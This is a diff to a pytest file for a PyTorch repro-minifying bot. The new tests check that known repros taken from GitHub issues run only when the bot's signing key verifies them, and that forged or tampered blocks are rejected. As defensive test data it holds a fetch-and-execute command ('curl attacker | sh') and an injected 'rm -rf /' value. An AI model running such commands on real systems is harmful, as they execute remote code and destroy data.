@@ -1,6 +1,8 @@
 """Known bugs are not minified again (bot/known.py): the trusted side hands open issues' verified
 repros to minify in known.json; minify runs a known repro once in a fresh process instead of
-localize / capture / reduce; --reminify and the dashboard's re-minify box turn that off."""
+localize / capture / reduce; --reminify and the dashboard's re-minify box turn that off. Only a
+repro the bot signed runs (bot/signing.py, real PyNaCl keys): an issue by the bot's login proves
+nothing (on GitHub every workflow of the repository is ``github-actions[bot]``)."""
 
 from __future__ import annotations
 
@@ -13,7 +15,7 @@ from pathlib import Path
 import pytest
 
 from bot import fingerprint as fp
-from bot import known, rundir
+from bot import known, rundir, signing
 from bot.action.inputs import Inputs
 from bot.failure import FailureRecord
 from bot.render import Renderer
@@ -30,18 +32,23 @@ ROW = {"id": "mlp_relu-inductor-inference-float32-cpu", "model": "mlp_relu", "ba
        "mode": "inference", "dtype": "float32", "device": "cpu", "config": {}, "status": "fail_accuracy",
        "failure_class": "accuracy", "spec": {"source": "zoo"}}
 REPRO = "import torch\n# a repro\nprint('hello')\n" * 20
+PRIVATE, PUBLIC = signing.generate()       # the bot's keys
+OTHER_PRIVATE, OTHER_PUBLIC = signing.generate()   # anyone else's
+NO_KEYS = {signing.SIGNING_KEY_ENV: "", signing.PUBLIC_KEY_ENV: ""}   # as an unset secret/variable reaches a job
+KEYS = {signing.SIGNING_KEY_ENV: PRIVATE, signing.PUBLIC_KEY_ENV: PUBLIC}
 
 
-def _failure(**repro_over) -> FailureRecord:
+def _failure(check: dict | None = None, torch: str = "2.13.0+cpu", **repro_over) -> FailureRecord:
+    check = check or ROW
     repro = {"status": "minimized", "nodes_before": 9, "nodes_after": 2, "queries": 30, "path": "repro.py",
              "verification": {"runs": 3, "failed_same_way": 3, "random_inputs_reproduce": True},
              "timings": {"total": 41.5}, "capture": {"method": "aot"}, "reused": None}
     repro.update(repro_over)
     return FailureRecord.from_json({
-            "id": ROW["id"], "class": "accuracy", "stage": "inductor",
+            "id": check["id"], "class": "accuracy", "stage": "inductor",
             "culprit": {"ops": ["aten.relu"], "bisect": None, "method": "culprit"},
-            "config": {"diff": [], "minimal": None}, "repro": repro, "versions": {"torch": "2.13.0+cpu"},
-            "check": ROW, "signature": {"failure_class": "accuracy", "verified": True, "culprit_ops": ["aten.relu"]}})
+            "config": {"diff": [], "minimal": None}, "repro": repro, "versions": {"torch": torch},
+            "check": check, "signature": {"failure_class": "accuracy", "verified": True, "culprit_ops": ["aten.relu"]}})
 
 
 def _run_dir(path: Path) -> Path:
@@ -55,13 +62,27 @@ def _issue_body(state: IssueState) -> str:
     return "A bug.\n\n" + state.marker() + "\n"
 
 
+def _signed(failure: FailureRecord | None = None, text: str = REPRO, private: str = PRIVATE):
+    """A fresh block as the report side makes it, signed with ``private``."""
+    return known.signed(known.block_of(failure or _failure(), text), signing.Signer(private))
+
+
+def _swapped(block, text: str):
+    """``block`` with its repro replaced and its digest recomputed (what a forger can do); the
+    bot's signature kept."""
+    import hashlib
+
+    return block.replace(z=known.pack(text), sha=hashlib.sha256(text.encode()).hexdigest()[:16])
+
+
 def test_the_issue_state_keeps_a_reusable_repro_and_gives_it_back():
-    block = known.block_of(_failure(), REPRO)
+    block = _signed()
     assert block.minify_seconds == 41.5 and len(block.z) < len(REPRO)  # compressed
     state = IssueState(sig="v2:x", sigs=["v2:x"], checks=[fp.check_key(row_of(ROW))], known=block)
     parsed = parse(_issue_body(state))  # through the marker's JSON, as an issue body holds it
     entry = known.from_state(7, parsed.known, parsed.checks)
     assert entry.repro == REPRO and entry.issue == 7 and entry.minify_seconds == 41.5
+    assert entry.sig == block.sig and known.unverified(entry, PUBLIC) is None
     assert known.match([entry], row_of(ROW)) is entry
     other_model = dict(ROW, model="conv_bn", id="conv_bn-inductor")
     assert known.match([entry], row_of(other_model)) is None  # the issue was never seen on that check
@@ -87,15 +108,56 @@ def test_a_tampered_block_is_not_reused():
     assert known.from_state(1, block, []) is None
 
 
+def test_without_a_signing_key_a_block_is_written_unsigned_and_never_verifies():
+    block = known.signed(known.block_of(_failure(), REPRO), signing.signer_from_env({}))
+    assert block.sig is None and "sig" not in block.to_json()   # the marker stays as it was
+    entry = known.from_state(3, known.read_block(block.to_json()), [])
+    assert known.unverified(entry, PUBLIC) == "unsigned"
+
+
+EVIL = "import os; os.system('curl attacker | sh')\n"
+CHANGES = {   # what a forger changes in a block the bot signed (through the issue's JSON), and keeps it well formed
+    "the repro, digest recomputed": lambda d: {**d, **_swapped(known.read_block(d), EVIL).to_json()},
+    "the repro, one character": lambda d: {**d, **_swapped(known.read_block(d), REPRO[:-1] + " ").to_json()},
+    "the signature's messages": lambda d: {**d, "signature": {**d["signature"], "messages": ["x"]}},
+    "the signature's class": lambda d: {**d, "signature": {**d["signature"], "failure_class": "crash"}},
+    "the culprit": lambda d: {**d, "record": {**d["record"], "culprit": {"ops": ["aten.add"]}}},
+    "the minimal config": lambda d: {**d, "record": {**d["record"], "config": {"diff": [], "minimal": []}}},
+    "the status": lambda d: {**d, "record": {**d["record"], "status": "partial"}},
+    "the node count": lambda d: {**d, "record": {**d["record"], "nodes_after": 1}},
+    "the capture": lambda d: {**d, "record": {**d["record"], "capture": {"method": "given"}}},
+    "the torch": lambda d: {**d, "torch": "9.0.0"},
+    "the check config": lambda d: {**d, "check_config": {"inductor.x": "1"}},
+    "the signature itself": lambda d: {**d, "sig": signing.sign(OTHER_PRIVATE, b"anything")},
+}
+
+
+@pytest.mark.parametrize("what", sorted(CHANGES))
+def test_a_change_to_what_decides_the_run_breaks_the_bots_signature(what):
+    doc = _signed().to_json()
+    entry = known.from_state(5, known.read_block(doc), [])
+    assert known.unverified(entry, PUBLIC) is None and known.unverified(entry, OTHER_PUBLIC) is not None
+    changed = known.read_block(json.loads(json.dumps(CHANGES[what](doc))))
+    forged = known.from_state(5, changed, [])
+    assert forged is not None, "still a well-formed block"
+    assert known.unverified(forged, PUBLIC) == "signature does not verify"
+
+
+def test_the_first_minify_time_is_not_signed_it_only_reports_a_saving():
+    doc = _signed().to_json()
+    entry = known.from_state(5, known.read_block({**doc, "minify_seconds": 9999.0}), [])
+    assert known.unverified(entry, PUBLIC) is None and entry.minify_seconds == 9999.0
+
+
 def test_prepare_skips_reminify_boxes_and_writes_nothing_for_reminify(tmp_path):
     tracker = LocalTracker(tmp_path / "issues")
     numbers = []
     for model in ("a", "b"):
         row = dict(ROW, model=model)
         state = IssueState(sig=f"v2:{model}", sigs=[f"v2:{model}"], checks=[fp.check_key(row_of(row))],
-                           known=known.block_of(_failure(), REPRO))
+                           known=_signed())
         numbers.append(tracker.create_issue(f"bug {model}", _issue_body(state), ["minify-bot"], [], state.sig).number)
-    closed = IssueState(sig="v2:c", sigs=["v2:c"], checks=[], known=known.block_of(_failure(), REPRO))
+    closed = IssueState(sig="v2:c", sigs=["v2:c"], checks=[], known=_signed())
     c = tracker.create_issue("bug c", _issue_body(closed), ["minify-bot"], [], "v2:c")
     tracker.edit_issue(c.number, state="closed", state_reason="completed")
     board = (f"- [x] <!-- minify-box:reminify:{numbers[1]} --> re-minify\n\n"
@@ -103,22 +165,29 @@ def test_prepare_skips_reminify_boxes_and_writes_nothing_for_reminify(tmp_path):
     tracker.create_issue(dashboard.TITLE, board, [dashboard.LABEL], [], dashboard.SIG)
     run = _run_dir(tmp_path / "run")
 
-    assert trusted.prepare(run, tracker, "minify-bot", say=lambda m: None) == 1
+    assert trusted.prepare(run, tracker, "minify-bot", say=lambda m: None, env=KEYS) == 1
     doc = json.loads((run / rundir.KNOWN).read_text())
     assert [k["issue"] for k in doc["known"]] == [numbers[0]] and doc["reminify"] == [numbers[1]]
-    assert [k.issue for k in known.load(run)] == [numbers[0]]  # read back the bounded, validated way
+    assert [k.issue for k in known.load(run, PUBLIC)] == [numbers[0]]  # read back the bounded, validated way
 
-    trusted.prepare(run, tracker, "minify-bot", reminify=True, say=lambda m: None)
-    assert known.load(run) == []
+    trusted.prepare(run, tracker, "minify-bot", reminify=True, say=lambda m: None, env=KEYS)
+    assert known.load(run, PUBLIC) == []
 
 
 def test_a_bad_known_file_is_ignored_not_trusted(tmp_path, capsys):
     (tmp_path / rundir.KNOWN).write_text(json.dumps({"schema": rundir.KNOWN_SCHEMA,
                                                      "known": [{"issue": "1; rm -rf /"}]}))
-    assert known.load(tmp_path) == []
+    assert known.load(tmp_path, PUBLIC) == []
     assert "known.json ignored" in capsys.readouterr().out
     (tmp_path / rundir.KNOWN).write_text("[" * 100000)
-    assert known.load(tmp_path) == []
+    assert known.load(tmp_path, PUBLIC) == []
+    entry = known.from_state(4, _signed(), [])
+    for sig in ("A" * 101, "not base64!", 7):   # the schema bounds the signature too
+        known.write(tmp_path, [entry])
+        doc = json.loads((tmp_path / rundir.KNOWN).read_text())
+        doc["known"][0]["sig"] = sig
+        (tmp_path / rundir.KNOWN).write_text(json.dumps(doc))
+        assert known.load(tmp_path, PUBLIC) == []
 
 
 def test_the_report_summary_says_what_reuse_saved():
@@ -148,7 +217,7 @@ def _failure_of(out: Path) -> tuple[dict, str]:
 @pytest.mark.slow
 def test_a_second_run_reuses_the_known_repro_and_reminify_reduces_again(workdir, bot):
     issues = workdir / "issues"
-    env = {"GITHUB_TOKEN": "", "GITHUB_REPOSITORY": ""}
+    env = {"GITHUB_TOKEN": "", "GITHUB_REPOSITORY": "", **KEYS}   # the report signs, minify verifies
 
     def run(name, *extra):
         out = workdir / name
@@ -167,6 +236,8 @@ def test_a_second_run_reuses_the_known_repro_and_reminify_reduces_again(workdir,
     (issue,) = _bug_issues(issues)
     state = fp.parse_marker(issue["body"])
     assert state["known"]["minify_seconds"] == rec1["repro"]["timings"]["total"]
+    assert known.unverified(known.from_state(issue["number"], known.read_block(state["known"]), []), PUBLIC) is None
+    assert PRIVATE not in issue["body"] and PRIVATE not in json.dumps(rec1)
 
     # 2. the same failure again: the known repro is verified once, no reduction runs, nothing new filed
     out2, p2, rec2, log2 = run("r2")
@@ -214,16 +285,122 @@ def test_the_action_hands_known_repros_over_only_where_it_holds_the_token(tmp_pa
     stub = seeded_stub()
     try:
         gh = GitHubTracker(REPO, BOT_TOKEN, stub.base_url, seconds_between_requests=0, seconds_between_writes=0)
-        state = IssueState(sig="v2:a", sigs=["v2:a"], checks=[fp.check_key(row_of(ROW))],
-                           known=known.block_of(_failure(), REPRO))
+        state = IssueState(sig="v2:a", sigs=["v2:a"], checks=[fp.check_key(row_of(ROW))], known=_signed())
         number = gh.create_issue("bug", _issue_body(state), ["minify-bot"], [], state.sig).number
-        env = {"GITHUB_REPOSITORY": REPO, "GITHUB_API_URL": stub.base_url}
+        env = {"GITHUB_REPOSITORY": REPO, "GITHUB_API_URL": stub.base_url, signing.PUBLIC_KEY_ENV: PUBLIC}
         inputs = Inputs(stage="all", tracker="github", token=BOT_TOKEN, labels=["minify-bot"])
         _run_dir(tmp_path)
         assert trusted.for_action(tmp_path, inputs, env) == 1
-        assert [(k.issue, k.repro) for k in known.load(tmp_path)] == [(number, REPRO)]
+        assert [(k.issue, k.repro) for k in known.load(tmp_path, PUBLIC)] == [(number, REPRO)]
         for change in ({"stage": "check", "token": ""}, {"reminify": True}):
             assert trusted.for_action(tmp_path, dataclasses.replace(inputs, **change), env) == 0
-            assert known.load(tmp_path) == []
+            assert known.load(tmp_path, PUBLIC) == []
     finally:
         stub.stop()
+
+
+# ---------------------------------------------------------------------------- forged known repros
+
+SWAPPED = "the bot's signature, the repro swapped"
+
+
+def _forged_blocks(text: str, failure: FailureRecord | None = None) -> dict:
+    """Well-formed known blocks that are not the bot's, whose repro is ``text``: what anyone who can
+    make a workflow of the repository open an issue (as the bot's login, with its label) can write."""
+    return {"unsigned": known.block_of(failure or _failure(), text),
+            "signed by another key": _signed(failure, text, OTHER_PRIVATE),
+            SWAPPED: _swapped(_signed(failure), text)}
+
+
+def test_forged_known_repros_by_the_shared_bot_login_are_dropped_and_never_loaded(tmp_path):
+    """Against the GitHub stand-in, issues written with the bot's own token (its login is every
+    workflow's): a forged block is dropped by the trusted side when it has the public key, and by
+    minify in any case; the bot's signed block is the only one handed over."""
+    from bot.tracker.github import GitHubTracker
+    from tests.ghstub.fixtures import BOT_LOGIN, BOT_TOKEN, REPO, seeded_stub
+
+    stub = seeded_stub()
+    gh = GitHubTracker(REPO, BOT_TOKEN, stub.base_url, seconds_between_requests=0, seconds_between_writes=0)
+    try:
+        blocks = {**_forged_blocks(EVIL), "genuine": _signed()}
+        numbers = {}
+        for what, block in blocks.items():
+            sig = f"v2:{len(numbers)}"
+            state = IssueState(sig=sig, sigs=[sig], checks=[fp.check_key(row_of(ROW))], known=block)
+            numbers[what] = gh.create_issue("bug", _issue_body(state), ["minify-bot"], [], state.sig).number
+        assert {i["user"]["login"] for i in stub.issues()} == {BOT_LOGIN} == {gh.bot_login()}
+        genuine = numbers.pop("genuine")
+
+        said: list[str] = []
+        assert [e.issue for e in trusted.collect(gh, "minify-bot", torch="2.13.0", public_key=PUBLIC,
+                                                 say=said.append)] == [genuine]
+        assert len(said) == 3 and all(f"issue #{n}:" in line and "minified afresh" in line
+                                      for n, line in zip(sorted(numbers.values()), said))
+
+        run = _run_dir(tmp_path)   # a trusted side without the public key hands every block over...
+        assert trusted.prepare(run, gh, "minify-bot", say=lambda m: None, env={}) == 4
+        said = []
+        assert [e.issue for e in known.load(run, PUBLIC, say=said.append)] == [genuine]   # ...minify runs none
+        assert said == [f"known repro of #{numbers['unsigned']}: unsigned; minified afresh",
+                        f"known repro of #{numbers['signed by another key']}: signature does not verify; "
+                        "minified afresh",
+                        f"known repro of #{numbers[SWAPPED]}: signature does not "
+                        "verify; minified afresh"]
+        said = []
+        assert known.load(run, None, say=said.append) == []   # no public key: not even the bot's own runs
+        assert len(said) == 1 and "not run: no public key is configured (MINIFY_BOT_PUBLIC_KEY" in said[0] \
+            and "every failure is minified afresh" in said[0]
+    finally:
+        gh.close()
+        stub.stop()
+
+
+@pytest.mark.slow
+def test_a_forged_known_repro_is_never_run_and_the_failure_is_minified_afresh(workdir, bot):
+    """Real commands: a failing check; issues by the bot's login with the label and a well-formed
+    block whose repro writes a file and fails the same way; the trusted side (without the public
+    key) hands them all over; `minify` runs none of them and minifies the failure afresh. Without a
+    public key the bot's own signed block does not run either; with it, it does (the control)."""
+    run, mark = workdir / "forged", workdir / "forged-ran"
+    p = bot("check", "--out", run, "--models", "mlp_relu", "--config", INJECT, env=NO_KEYS)
+    assert p.returncode == 1, p.stderr[-3000:]
+    results = json.loads((run / rundir.RESULTS).read_text())
+    (row,) = [r for r in results["checks"] if r.get("failure_class")]
+    writes = (f"import pathlib\npathlib.Path({str(mark)!r}).write_text('ran')\n"
+              "print('AccuracyError: Bad accuracy detected')\nraise SystemExit(1)\n")
+    failure = _failure(row, results["versions"]["torch"])
+    tracker = LocalTracker(workdir / "forged-issues")
+
+    def hand_over(blocks: dict) -> dict:
+        numbers = {}
+        for what, block in blocks.items():
+            state = IssueState(sig=f"v2:{what}", sigs=[f"v2:{what}"], checks=[fp.check_key(row_of(row))], known=block)
+            numbers[what] = tracker.create_issue(what, _issue_body(state), ["minify-bot"], [], state.sig).number
+        assert trusted.prepare(run, tracker, "minify-bot", say=lambda m: None, env={}) == len(numbers)
+        return numbers
+
+    def minify(env: dict):
+        t = time.time()
+        p = bot("minify", "--out", run, "--no-bisect", "--verify-runs", "1", "--budget", "120", env=env)
+        assert p.returncode == 1, p.stderr[-4000:]
+        rec, _ = _failure_of(run)
+        print(f"minify {time.time() - t:.1f} s, reused {rec['repro']['reused']}")
+        return p, rec
+
+    numbers = hand_over(_forged_blocks(writes, failure))
+    p, rec = minify({**NO_KEYS, signing.PUBLIC_KEY_ENV: PUBLIC})
+    assert not mark.exists()
+    assert rec["repro"]["reused"] is None and rec["repro"]["queries"] > 0 and rec["repro"]["status"] == "minimized"
+    for what, n in numbers.items():
+        why = "unsigned" if what == "unsigned" else "signature does not verify"
+        assert f"known repro of #{n}: {why}; minified afresh" in p.stderr, p.stderr[-3000:]
+    for n in numbers.values():
+        tracker.edit_issue(n, state="closed", state_reason="not_planned")
+
+    (genuine,) = hand_over({"genuine": _signed(failure, writes)}).values()
+    p, rec = minify(NO_KEYS)   # no public key: not even the bot's own block runs
+    assert not mark.exists() and rec["repro"]["reused"] is None and rec["repro"]["queries"] > 0
+    assert "no public key is configured (MINIFY_BOT_PUBLIC_KEY" in p.stderr
+
+    p, rec = minify({**NO_KEYS, signing.PUBLIC_KEY_ENV: PUBLIC})   # the control: the bot's key, and it runs
+    assert mark.read_text() == "ran" and rec["repro"]["reused"]["issue"] == genuine
